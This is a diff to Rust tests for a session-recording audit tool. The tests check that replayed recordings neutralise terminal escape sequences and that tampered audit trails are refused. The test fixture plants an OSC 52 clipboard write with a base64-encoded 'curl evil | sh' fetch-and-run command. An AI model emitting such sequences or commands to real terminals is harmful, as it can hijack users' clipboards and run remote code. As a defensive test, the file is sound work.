@@ -89,6 +89,12 @@ fn trail(dir: &Path, frames: usize) {
     let recordings = cfg.recordings_dir();
     std::fs::create_dir_all(&recordings).unwrap();
     let mut cast = String::from("{\"version\":2,\"width\":80,\"height\":24}\n");
+    // What a hostile program on the target could write to act on the
+    // terminal that replays it: set the clipboard, ask for a status
+    // report; and colour, which only draws.
+    cast.push_str(
+        "[0.0, \"o\", \"\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u001b[6n\\u001b[1;31mred\\u001b[0m\\r\\n\"]\n",
+    );
     for i in 0..frames {
         cast.push_str(&format!(
             "[0.0, \"o\", \"line {i} of a long listing, padded to make the pipe fill up quickly\\r\\n\"]\n"
@@ -179,6 +185,60 @@ fn sessions_read_back_for_people() {
     assert!(out.contains("request #1 was denied"), "{out}");
     assert!(out.contains("(the client disconnected)"), "{out}");
     assert!(!out.contains('{'), "no event is printed as raw JSON: {out}");
+}
+
+/// Replay checks the chain through the recording's event, and shows as
+/// text what would act on the auditor's terminal (unless `--raw`).
+#[test]
+fn replay_shows_what_would_act_on_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    trail(dir.path(), 1);
+    let replay = |extra: &[&str]| {
+        let o = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
+            .args(["sessions", "replay", SESSION, "--max-wait", "0"])
+            .args(extra)
+            .current_dir(dir.path())
+            .env_remove("GATEHOUSE_CONFIG")
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "{}", text(&o.stderr));
+        (text(&o.stdout), text(&o.stderr))
+    };
+    let (shown, note) = replay(&[]);
+    assert!(note.contains("signed by a checkpoint"), "{note}");
+    assert!(note.contains("shown as text"), "{note}");
+    assert!(shown.contains("\u{241b}]52;c;"), "{shown:?}");
+    assert!(shown.contains("\u{241b}[6n"), "{shown:?}");
+    assert!(!shown.contains("\u{1b}]"), "{shown:?}");
+    assert!(!shown.contains("\u{1b}[6n"), "{shown:?}");
+    assert!(
+        shown.contains("\u{1b}[1;31mred\u{1b}[0m"),
+        "colour still draws: {shown:?}"
+    );
+    let (raw, _) = replay(&["--raw"]);
+    assert!(raw.contains("\u{1b}]52;c;"), "{raw:?}");
+
+    // A trail edited before the recording's event: no replay.
+    let db = dir.path().join("state/audit.db");
+    let conn = rusqlite::Connection::open(&db).unwrap();
+    conn.execute(
+        "UPDATE events SET data = replace(data, 'sudo', 'true') WHERE seq = 2",
+        [],
+    )
+    .unwrap();
+    drop(conn);
+    let o = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
+        .args(["sessions", "replay", SESSION])
+        .current_dir(dir.path())
+        .env_remove("GATEHOUSE_CONFIG")
+        .output()
+        .unwrap();
+    assert!(!o.status.success());
+    assert!(
+        text(&o.stderr).contains("does not verify at or before the recording's event"),
+        "{}",
+        text(&o.stderr)
+    );
 }
 
 #[test]
